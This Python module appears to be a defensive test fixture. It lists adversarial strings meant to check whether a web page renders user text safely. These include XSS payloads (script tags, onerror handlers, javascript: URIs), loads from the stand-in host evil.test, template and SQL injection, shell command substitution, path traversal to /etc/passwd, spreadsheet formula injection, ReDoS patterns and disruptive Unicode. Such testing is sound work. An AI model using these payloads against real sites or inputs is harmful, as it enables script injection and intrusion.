"""Texts that have broken web pages, each with what to look for if it does so here.

What would run sets `window.__owned`; what would be fetched or linked names evil.test; what would
become an element carries the attribute data-owned; what would be read as markup names an otter.
"""

OWN = "window.__owned=1"
EVIL = "https://evil.test"

TAGS = (
    f"<script>{OWN}</script>",
    f"<ScRiPt data-owned>{OWN}</sCrIpT >",
    f"</script><script>{OWN}</script>",
    f"</textarea></title></style></noscript><script>{OWN}</script>",
    f"<!--<script>{OWN}//--><![CDATA[<script>{OWN}</script>]]>",
    f"<script src={EVIL}/a.js></script>",
    f"<img data-owned src=x onerror={OWN}>",
    f"<img data-owned src=\"x` `<script>{OWN}</script>\"` `>",
    f"<svg data-owned onload={OWN}>",
    f"<svg><script>{OWN}</script></svg>",
    f"<svg><animate data-owned onbegin={OWN} attributeName=x></svg>",
    f"<math><mtext><table><mglyph><style><img data-owned src onerror={OWN}>",
    "<iframe data-owned srcdoc=\"<script>parent.__owned=1</script>\"></iframe>",
    "<iframe data-owned src=\"javascript:parent.__owned=1\"></iframe>",
    f"<object data-owned data={EVIL}/o></object><embed data-owned src={EVIL}/e>",
    f"<link data-owned rel=stylesheet href={EVIL}/s.css><base data-owned href={EVIL}/>",
    f"<meta data-owned http-equiv=refresh content=\"0;url={EVIL}/m\">",
    f"<style data-owned>@import '{EVIL}/i.css';*{{display:none}}</style>",
    f"<form data-owned action={EVIL}/f><button formaction=javascript:{OWN}>go</button></form>",
    f"<details data-owned open ontoggle={OWN}><summary>x</summary></details>",
    f"<input data-owned autofocus onfocus={OWN}><video data-owned><source onerror={OWN}></video>",
    f"<a data-owned href=\"javascript:{OWN}\">otter</a><a href='{EVIL}/t'>otter</a>",
    f"<a data-owned href=\"jav&#x09;ascript:{OWN}\">otter</a>",
    "<b data-owned>otter</b><br><sub>otter</sub><span style='font-size:90px'>otter</span>",
    f"<x data-owned style=\"background:url('{EVIL}/b')\" onpointerover={OWN}>",
)
BREAKS = (
    f"\"><script>{OWN}</script>", f"'><img data-owned src=x onerror={OWN}>",
    f"\" autofocus onfocus={OWN} data-owned=\"", f"' onmouseover='{OWN}' data-owned='",
    f"';{OWN};//", f"\";{OWN};//", f"\\\";{OWN};//", f"\\';{OWN};//", f"`;{OWN};//",
    f"${{{OWN}}}", f"`${{{OWN}}}`", f"{{{{{OWN}}}}}", f"{{{{constructor.constructor('{OWN}')()}}}}",
    "{%raw%}{{7*7}}<%= 7*7 %>#{7*7}", f"*/{OWN}/*", f"-->{OWN}<!--", f"]]>{OWN}",
    f"javascript:{OWN}", f"data:text/html,<script>{OWN}</script>", f"vbscript:{OWN}",
    f"\u2028{OWN}//\u2029{OWN}//", "%{customdata}%{x:.3f}%{fullData.name}",
    "{text} {0} {__class__.__mro__} %s %d %(x)s %n",
    "__proto__", "constructor", "toString", "NaN", "null", "undefined", "None", "True", "-0",
    "1e400", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "file:///etc/passwd", "C:\\con\\con",
    "'; DROP TABLE words; --", "$(touch owned)", "`touch owned`", "| ls; && ls", "=1+1", "@SUM(1)",
    "+cmd|' /C calc'!A0", "(a+)+$", "[MASK", "[mask]", "[CLS][SEP][PAD][UNK][unused1]",
)
MARKDOWN = (
    f"[otter]({EVIL}/l)", f"![otter]({EVIL}/i.png)", f"[otter](javascript:{OWN})",
    f"<{EVIL}/auto>", f"{EVIL}/bare", f"[otter][r]\n\n[r]: {EVIL}/r \"t\"",
    f"[![otter]({EVIL}/i2.png)]({EVIL}/l2)", "**otter** __otter__ *otter* ~~otter~~ `otter`",
    "```\notter\n```", "# otter", "> otter", "- otter\n1. otter", "|otter|b|\n|-|-|\n|c|d|",
    ":red[otter] :blue-background[otter] :small[otter] :rainbow[otter]",
    ":material/home: :streamlit: :smile: :shortcake:",
    f"$\\href{{javascript:{OWN}}}{{otter}}$", f"$$\\url{{javascript:{OWN}}}$$",
    f"$\\includegraphics{{{EVIL}/k.png}}$", "$\\htmlData{owned=1}{otter}$",
    "$otter$ $$otter$$ \\(otter\\) \\[otter\\]", "$\\def\\x{\\x\\x}\\x$", "$\\frac{1}{",
    "\\$ \\\\ \\",
    "&lt;img src=x onerror=window.__owned=1&gt; &#60;script&#62; &amp;lt;b&amp;gt; &nbsp;",
    "\\<b\\>otter\\</b\\>", "<!-- otter -->", "---\ntitle: otter\n---",
)
CHARACTERS = (
    "\u202eevil\u202c \u2066otter\u2069 \u200f\u061cعربي עברית", "a\u0300\u0301\u0302\u0303" * 12,
    "Z\u0351\u036b\u0343\u036a\u0302A\u0321\u034a\u0360L\u0308G\u0334O",
    "\u200b\u200c\u200d\u2060\ufeff",
    "nul\x00nul \x00",
    "zero\u200bwidth\u00adhyphen\u2060joined", "👩‍👩‍👧‍👦 🏴‍☠️ 👍🏽 🇨🇭 1️⃣ ☺︎", "\U0001f468\u200d" * 20,
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.test\x07otter\x1b]8;;\x07", "\x07\x08\x7f\x85\x9b",
    "\ud7ff\ue000\uf8ff\ufdd0\ufffe\uffff\U0010ffff\ufffd", "ﷺ ﷽ 𒐫 ꧅ 𝒽𝑒𝓁𝓁𝑜 ｆｕｌｌ",
    "ß ſ ı İ K Å ǅ ﬁ",
    "\u00a0\u2000\u2003\u3000\u1680\u180e", "\r\n\t\v\f", "“”‘’«»„‚‹›", "，。！？；：（）【】《》",
    "𠮷𠀀𪜶 你好 世界 こんにちは 한국어 ไทย हिन्दी", "Ω≈ç√∫˜µ≤≥÷ ¡™£¢∞§¶•ªº–≠",
)
LONG = ("a" * 1200, "-" * 300, "( " * 200, "[MASK] " * 60, "好" * 400, "<b>" * 200, "x\n" * 200)

SHORT_ENOUGH = (*TAGS, *BREAKS, *MARKDOWN, *CHARACTERS)
ALL = (*SHORT_ENOUGH, *LONG)


def joined(strings: tuple[str, ...] = SHORT_ENOUGH, limit: int = 420) -> list[str]:
    """The strings in as few texts of at most so many characters as their order allows."""
    texts: list[str] = []
    for string in strings:
        if texts and len(texts[-1]) + len(string) < limit:
            texts[-1] += " " + string
        else:
            texts.append(string)
    return texts
